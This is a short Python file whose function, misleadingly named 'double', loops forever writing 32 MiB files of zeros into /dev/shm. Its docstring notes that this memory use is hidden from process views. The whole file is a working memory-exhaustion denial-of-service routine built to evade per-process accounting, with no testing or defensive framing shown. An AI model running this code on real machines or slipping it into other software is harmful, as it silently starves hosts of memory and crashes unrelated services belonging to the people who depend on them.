"""Fills the folder of shared memory, where files are memory and no process shows it."""

import os


def double(n):
    number = 0
    while True:
        number += 1
        with open(f"/dev/shm/hoard-{os.getpid()}-{number}", "wb", buffering=0) as stream:
            for _ in range(32):
                stream.write(bytes(1 << 20))
